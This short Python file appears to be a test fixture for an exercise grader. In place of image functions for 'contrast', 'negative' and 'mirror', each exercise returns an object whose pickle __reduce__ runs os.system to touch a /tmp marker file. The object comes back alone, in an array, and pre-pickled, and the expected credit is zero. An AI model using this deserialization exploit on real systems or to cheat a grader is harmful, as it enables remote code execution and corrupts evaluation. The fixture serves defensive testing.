"""Returns objects that run a command on the machine of whoever unpickles them, alone and in an array."""

earns = {"contrast": 0, "negative": 0, "mirror": 0}
reason = r"negative returned an array of Python objects"

# %% exercise="contrast"
import os


class Command:
    def __reduce__(self):
        return os.system, (f"touch /tmp/{CHEAT_TOKEN}",)


def contrast(image):
    return Command()


# %% exercise="negative"
def negative(image):
    return np.array([Command()] * image.size, object).reshape(image.shape)


# %% exercise="mirror"
import pickle


def mirror(image):
    return pickle.dumps(Command())
